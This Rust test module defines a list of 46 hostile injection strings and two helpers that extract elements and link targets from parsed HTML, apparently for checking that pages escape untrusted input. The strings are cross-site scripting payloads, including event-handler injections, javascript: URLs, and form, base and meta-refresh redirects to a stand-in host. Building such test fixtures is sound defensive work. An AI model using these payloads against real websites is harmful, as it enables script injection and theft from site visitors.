//! For tests of pages: injection attempts, and the elements and links of a page.

use scraper::Html;

pub const HOSTILE: [&str; 46] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</title><script>alert(1)</script>",
    "</textarea></style></script><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert`1`//",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">",
    "\"><b>bold</b>",
    "'><b>bold</b>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "` onclick=alert(1) `",
    " onclick=alert(1) ",
    "\"/><input name=outcome value=paid>",
    "</form><form action=https://evil.example>",
    "</a><a href=javascript:alert(1)>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "mailto:a@b.example?subject=<script>",
    "javascript:alert(1)//@evil.example",
    "javascript:a@evil.example",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "&quot; onload=alert(1)",
    "&amp;#x3C;img src=x&amp;#x3E;",
    "<!-- a comment -->",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "{{ t.text(\"x\") }} {% include \"docs/reference.html\" %} {# x #}",
    "{ $shop } { -term } { \"x\" } ${x} #{x}",
    "\u{202e}gnp.exe\u{202c} \u{2066}x\u{2069}",
    "مرحبا <b>שלום</b>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003e \\x3cscript\\x3e",
    "<style>*{display:none}</style>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "null undefined NaN [object Object]",
    "<a href=\"https://evil.example\" style=\"position:fixed\">x",
];

/// The tags of a page with the names of their attributes, in order.
pub fn elements(document: &Html) -> Vec<(String, Vec<String>)> {
    let all = document.root_element().descendent_elements().map(|element| {
        let mut names: Vec<_> = element.value().attrs().map(|(name, _)| name.to_owned()).collect();
        names.sort_unstable();
        (element.value().name().to_owned(), names)
    });
    all.collect()
}

/// The targets of links, forms and files of a page, except its stylesheet and icon.
pub fn hrefs(document: &Html) -> Vec<String> {
    let all = document.root_element().descendent_elements();
    all.filter(|element| element.value().name() != "link")
        .flat_map(|element| ["href", "action", "formaction", "src"].map(|name| element.attr(name)))
        .flatten()
        .map(str::to_owned)
        .collect()
}
